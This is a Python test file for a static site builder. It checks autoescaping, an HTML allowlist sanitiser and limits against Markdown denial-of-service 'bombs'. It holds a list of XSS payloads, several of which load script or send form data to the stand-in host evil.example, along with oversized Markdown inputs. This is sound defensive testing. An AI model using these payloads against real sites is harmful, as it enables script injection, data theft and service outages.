"""A writer's text never runs on the site: autoescape, the HTML allowlist, Markdown bombs.

docs/security-markup.md describes the rules; tests/site/test_markup_site.py builds a site whose
every field holds markup, tests/site/test_markup_browser.py opens it in Chromium.
"""

from __future__ import annotations

import re
import shutil
import signal
import threading
from pathlib import Path
from types import SimpleNamespace

import lxml.html
import pytest
from markdown import Markdown

from publisher.content import sanitize
from publisher.content.check import check_tree
from publisher.content.frontmatter import parse
from publisher.content.markdown_guard import MarkdownRefused, Renderer, limits
from publisher.core.timeutil import parse_time
from publisher.site.build import BuildFailed, build_site
from publisher.site.trusted import body_html, json_ld, require_autoescape
from tests.support import ROOT

HOSTILE = ROOT / "tests" / "hostile" / "markup"
BASE = ROOT / "tests" / "broken" / "_base"
MARKDOWN = {
    "extension_configs": {
        "markdown.extensions.extra": {},
        "markdown.extensions.toc": {"anchorlink": False},
        "markdown.extensions.sane_lists": {},
    },
    "output_format": "html5",
}


# --- autoescape and the one trusted place ----------------------------------------------------


def test_no_template_turns_escaping_off() -> None:
    for template in (ROOT / "theme" / "templates").rglob("*.html"):
        text = template.read_text(encoding="utf-8")
        assert not re.search(r"\|\s*safe\b", text), template
        assert not re.search(r"autoescape\s+(false|off)", text, re.IGNORECASE), template
        assert "Markup" not in text, template


def test_only_the_trusted_module_marks_html_safe() -> None:
    for module in (ROOT / "publisher").rglob("*.py"):
        if module.name == "trusted.py":
            continue
        for line in module.read_text(encoding="utf-8").splitlines():
            if ".striptags()" in line:  # text out of markup (slugs), not markup made safe
                continue
            assert not re.search(r"\bMarkup\(|htmlsafe_json_dumps|\.__html__", line), module


def test_autoescape_is_on_whatever_the_settings_say() -> None:
    pelican = SimpleNamespace(settings={"JINJA_ENVIRONMENT": {"autoescape": False}})
    require_autoescape(pelican)
    assert pelican.settings["JINJA_ENVIRONMENT"]["autoescape"] is True
    assert pelican.settings["JINJA_FILTERS"]["body_html"] is body_html


def test_json_ld_cannot_end_its_script_block_or_open_a_comment() -> None:
    text = str(json_ld({"headline": "</script><!--<script>'&", "n": 1}))
    assert "<" not in text and ">" not in text and "&" not in text and "'" not in text
    assert '"n":1' in text


def test_the_body_filter_sanitises_what_it_marks() -> None:
    assert str(body_html('<p onclick="x()">a</p><script>b()</script>')) == "<p>a</p>"


# --- the allowlist sanitiser -----------------------------------------------------------------

ATTACKS = [
    '<script>alert("x")</script>',
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<style>body{display:none}</style>",
    '<iframe src="https://evil.example/"></iframe>',
    '<object data="https://evil.example/x.swf"></object>',
    '<embed src="https://evil.example/x.swf">',
    '<img src="x" onerror="alert(1)">',
    '<p onmouseover="alert(1)">a</p>',
    '<a href="javascript:alert(1)">a</a>',
    '<a href="JaVaScRiPt:alert(1)">a</a>',
    '<a href="java&#115;cript:alert(1)">a</a>',
    '<a href="  javascript:alert(1)">a</a>',
    '<a href="java\tscript:alert(1)">a</a>',
    '<a href="vbscript:msgbox(1)">a</a>',
    '<a href="data:text/html,<script>alert(1)</script>">a</a>',
    '<img src="data:image/png;base64,iVBORw0KGgo=" alt="a">',
    '<img src="https://tracker.example/pixel.png" alt="a">',
    '<img src="//tracker.example/pixel.png" alt="a">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<svg onload="alert(1)"><circle r="1"/></svg>',
    '<math><mi xlink:href="javascript:alert(1)">a</mi></math>',
    '<form action="https://evil.example/"><input name="a"><button>b</button></form>',
    '<base href="https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<p style="background:url(https://evil.example/)">a</p>',
    '<a href="https://quick.example/" data-quick-exit>a</a>',
    "<template><script>alert(1)</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
]


@pytest.mark.parametrize("html", ATTACKS)
def test_the_sanitiser_leaves_nothing_that_runs_or_fetches(html: str) -> None:
    cleaned = sanitize.clean(html)
    tree = lxml.html.fragment_fromstring(f"<div>{cleaned}</div>")
    for element in tree.iter():
        tag = element.tag if isinstance(element.tag, str) else ""
        assert tag in sanitize.TAGS | {"div"}, (html, cleaned)
        for name, value in element.attrib.items():
            assert not name.startswith("on") and name != "style", (html, cleaned)
            assert not name.startswith("data-"), (html, cleaned)
            if name in ("href", "src"):
                assert sanitize.url_scheme(value) in (None, *sanitize.URL_SCHEMES), cleaned
            if tag == "img" and name == "src":
                assert not sanitize.is_remote(value), cleaned
    # And check names it: every attack is a finding.
    assert sanitize.findings(html), html


def test_the_sanitiser_keeps_what_markdown_writes() -> None:
    renderer = Renderer(MARKDOWN)
    for path in sorted((ROOT / "content").rglob("*.md")):
        body = parse(path).body
        assert renderer.render(body) == renderer.convert(body), path


def test_check_reports_each_removed_thing_at_its_line(tmp_path: Path) -> None:
    site = tmp_path / "site"
    shutil.copytree(BASE, site)
    shutil.copy(HOSTILE / "html-mentah.md", site / "content" / "berita" / "html-mentah.md")
    problems = check_tree(site)
    assert all(p.path.endswith("html-mentah.md") and p.severity == "error" for p in problems)
    found = [(p.line, p.message.split(" ")[0]) for p in problems]
    assert found == [
        (10, "<script>"),
        (12, "<style>"),
        (14, "<iframe>"),
        (16, "<object>"),
        (18, "the"),  # onclick
        (20, "a"),  # meta refresh
        (22, "the"),  # [..](javascript:)
        (24, "the"),  # data: link
        (27, "the"),  # {: onmouseover }
        (29, "the"),  # another site's image
        (31, "the"),  # java&#115;cript:
    ]
    assert "onclick" in problems[4].message and "onmouseover" in problems[8].message
    assert "'javascript:'" in problems[10].message


def test_build_refuses_the_same_file(tmp_path: Path) -> None:
    site = tmp_path / "site"
    shutil.copytree(ROOT, site, ignore=shutil.ignore_patterns(".*", "output", "node_modules",
                                                              "tests", "bench", "var"))  # fmt: skip
    shutil.copy(HOSTILE / "html-mentah.md", site / "content" / "berita" / "html-mentah.md")
    with pytest.raises(BuildFailed) as failed:
        build_site(site / "pelicanconf.py", output=site / "output",
                   now=parse_time("2026-11-28 12:00"), overrides={"SEARCH_INDEX": False})  # fmt: skip
    lines = [p.line for p in failed.value.problems if p.path.endswith("html-mentah.md")]
    assert lines == [10, 12, 14, 16, 18, 20, 22, 24, 27, 29, 31]
    assert not (site / "output").exists()


# --- Markdown bombs --------------------------------------------------------------------------

BOMBS = {
    "unclosed brackets": "[" * 10_000,
    "unclosed brackets with words": "[tawaran " * 5_000,
    "unclosed links": "[a](" * 20_000,
    "unclosed raw html": "<a " * 20_000,
    "lists nested 300 deep": "".join("    " * i + "- x\n" for i in range(300)),
    "list items on one line": "+ " * 3_000,
    "quotes nested 1,000 deep": "".join(">" * i + " x\n" for i in range(1_000)),
    "a quote 10,000 deep": ">" * 10_000 + " x\n",
    "a table of 100,000 cells": "|" + "h|" * 100 + "\n|" + "-|" * 100 + "\n" + ("|" + "c|" * 100 + "\n") * 1_000,
    "5,000 abbreviations": "*[A]: b\n" * 5_000,
    "a paragraph of 20,000 marks": "*a* " * 20_000,
    "5,000 headings": "# a\n" * 5_000,
    "a megabyte of text": "kata " * 220_000,
}  # fmt: skip


@pytest.mark.parametrize("name", list(BOMBS))
def test_a_bomb_is_refused_with_a_reason(name: str) -> None:
    with pytest.raises(MarkdownRefused) as refused:
        Renderer(MARKDOWN).render(BOMBS[name])
    assert refused.value.refusal.line >= 1 and refused.value.refusal.message


def test_limits_refuse_the_named_bombs_before_converting() -> None:
    assert all(limits(BOMBS[name]) is not None for name in BOMBS)


def test_a_long_normal_page_is_within_the_limits() -> None:
    paragraph = "Warga desa diajak **mengenali** tawaran kerja yang [menipu](https://a.go.id/). "
    body = "\n\n".join(f"## Bagian {n}\n\n" + paragraph * 8 for n in range(300))
    assert limits(body) is None
    assert Renderer(MARKDOWN).render(body).count("<h2") == 300


def test_the_deadline_stops_what_the_limits_let_through() -> None:
    renderer = Renderer(MARKDOWN, deadline=0.05)
    body = "# a\n" * 2_000  # within the limits, about a second of work
    assert limits(body) is None
    with pytest.raises(MarkdownRefused, match=r"took more than 0\.05 s"):
        renderer.render(body)
    assert renderer.render("*b*") == "<p><em>b</em></p>"  # a fresh instance after the stop


def test_the_deadline_holds_off_the_main_thread() -> None:
    outcome: list[str] = []

    def convert() -> None:
        try:
            Renderer(MARKDOWN, deadline=0.05).render("# a\n" * 2_000)
        except MarkdownRefused as exc:
            outcome.append(exc.refusal.message)

    thread = threading.Thread(target=convert)
    thread.start()
    thread.join()
    assert outcome and "took more than" in outcome[0]


def test_a_profiling_timer_already_running_keeps_its_turn() -> None:
    fired: list[int] = []
    previous = signal.signal(signal.SIGPROF, lambda *_: fired.append(1))
    try:
        signal.setitimer(signal.ITIMER_PROF, 50.0)
        Renderer(MARKDOWN).render("*a*")
        left, _ = signal.getitimer(signal.ITIMER_PROF)
        assert 45 < left <= 50.1
    finally:
        signal.setitimer(signal.ITIMER_PROF, 0)
        signal.signal(signal.SIGPROF, previous)
    assert not fired


def test_the_memory_cap_stops_a_conversion_that_grows_too_much(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    renderer = Renderer(MARKDOWN, headroom=8 << 20)

    def hungry(self: Markdown, source: str) -> str:
        return str(len(bytearray(64 << 20)))  # what a runaway conversion would ask for

    monkeypatch.setattr(Markdown, "convert", hungry)
    with pytest.raises(MarkdownRefused, match="needed more than 8 MB"):
        renderer.render("*a*")
    monkeypatch.undo()
    assert renderer.render("*b*") == "<p><em>b</em></p>"
    assert bytearray(64 << 20)  # the cap is gone once the conversion is over


def test_check_names_the_bomb_file_and_checks_the_others(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    site = tmp_path / "site"
    shutil.copytree(BASE, site)
    monkeypatch.chdir(site)
    head = "---\nid: bom\ntitle: Bom\ndate: 2026-11-20 09:00\nsummary: Bom.\n---\n\nAwal.\n\n"
    (site / "content" / "berita" / "bom.md").write_text(head + "[" * 10_000, encoding="utf-8")
    (site / "content" / "berita" / "lain.md").write_text(
        "---\nid: lain\ntitle: Lain\ndate: 2026-11-20 09:00\nsummary: Lain.\n---\n\n"
        "<script>x()</script>\n",
        encoding="utf-8",
    )
    problems = [str(p) for p in check_tree(site)]
    assert len(problems) == 2, problems
    assert problems[0].startswith("content/berita/bom.md:10: error: this paragraph has too many")
    assert problems[1].startswith("content/berita/lain.md:8: error: <script>")
